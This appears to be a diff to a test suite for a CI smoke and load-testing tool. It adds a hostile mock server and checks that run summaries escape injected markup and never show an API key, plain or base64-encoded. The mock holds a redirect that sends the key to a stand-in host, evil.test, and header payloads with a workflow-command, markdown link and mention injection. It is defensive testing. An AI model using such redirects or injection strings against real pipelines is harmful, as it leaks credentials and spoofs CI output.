@@ -16,9 +16,19 @@ function hostile(request: IncomingMessage, response: ServerResponse): void {
   const told = request.headers['x-api-key'] ?? '';
   switch ((request.url ?? '/').split('?', 1)[0]) {
     case '/evil':
-      return void response.writeHead(200, { 'x-version': '1 ::error::owned | <b>' }).end(EVIL);
+      return void response
+        .writeHead(200, { 'x-version': '1 ::error::owned | <b>![log in](http://evil.test) @octocat' })
+        .end(EVIL);
     case '/echo':
-      return void response.end(JSON.stringify({ plain: told, url: encodeURIComponent(String(told)), nested: [told] }));
+      return void response.end(
+        JSON.stringify({
+          plain: told,
+          url: encodeURIComponent(String(told)),
+          nested: [told],
+          basic: Buffer.from(`user:${String(told)}`).toString('base64'),
+          short: Buffer.from(String(told)).toString('base64url'),
+        }),
+      );
     case '/away':
       return void response
         .writeHead(302, { location: `http://evil.test/?k=${encodeURIComponent(String(told))}` })
@@ -105,6 +115,11 @@ flows:
     const text = all(run);
     expect([...'\u001b\u0007\u0000\u202e'].filter((mark) => text.includes(mark))).toEqual([]);
     expect(run.summary).not.toContain('<script>');
+    // Its words are there, and make no link, no picture, no mention and no further cell.
+    expect(run.summary).toContain('log in&#93;(http://evil.test)');
+    expect(run.summary).not.toMatch(/\]\(|@octocat/);
+    const [row = ''] = run.summary.split('\n').filter((line) => line.startsWith('| version '));
+    expect(row.match(/(?<!\\)\|/g)).toHaveLength(9);
     expect(readFileSync(run.outputs['junit'] ?? '', 'utf8')).not.toMatch(/<script>|<b>/);
   });
 
@@ -118,7 +133,7 @@ test('a secret that the application sends back is shown nowhere, however it is s
   const headers = "headers: { x-api-key: '${KEY}' }";
   const run = await smoke(`
 checks:
-  - { name: json, get: /echo, ${headers}, expect: { json: { "$.plain": a, "$.url": a, "$.nested[*]": a, "$.none": a } } }
+  - { name: json, get: /echo, ${headers}, expect: { json: { "$.plain": a, "$.url": a, "$.nested[*]": a, "$.none": a, "$.basic": a, "$.short": a } } }
   - { name: body, get: "/echo?key=\${KEY}", ${headers}, expect: { json: { "$.url": a } } }
   - { name: away, get: /away, ${headers}, follow-redirects: same-host }
 load:
@@ -127,7 +142,18 @@ load:
   const loaded = await smoke(
     `load: [{ name: load, closed: { count: 20, concurrency: 2 }, get: "/echo?key=\${KEY}", ${headers}, expect: { json: { "$.url": a } }, rules: ["fail: error-rate > 5%"] }]`,
   );
-  const spellings = [SECRET, JSON.stringify(SECRET).slice(1, -1), encodeURIComponent(SECRET), encodeURI(SECRET)];
+  // Of Base64 the part that the secret alone decides.
+  const base64 = [
+    Buffer.from(`user:${SECRET}`).toString('base64').slice(8, -4),
+    Buffer.from(SECRET).toString('base64url').slice(0, -1),
+  ];
+  const spellings = [
+    ...base64,
+    SECRET,
+    JSON.stringify(SECRET).slice(1, -1),
+    encodeURIComponent(SECRET),
+    encodeURI(SECRET),
+  ];
   for (const text of [all(run), all(loaded)])
     expect(spellings.filter((each) => text.includes(each) || text.includes(JSON.stringify(each)))).toEqual([]);
   expect([run.outputs['failed'], loaded.outputs['verdict']]).toEqual(['3', 'fail']);
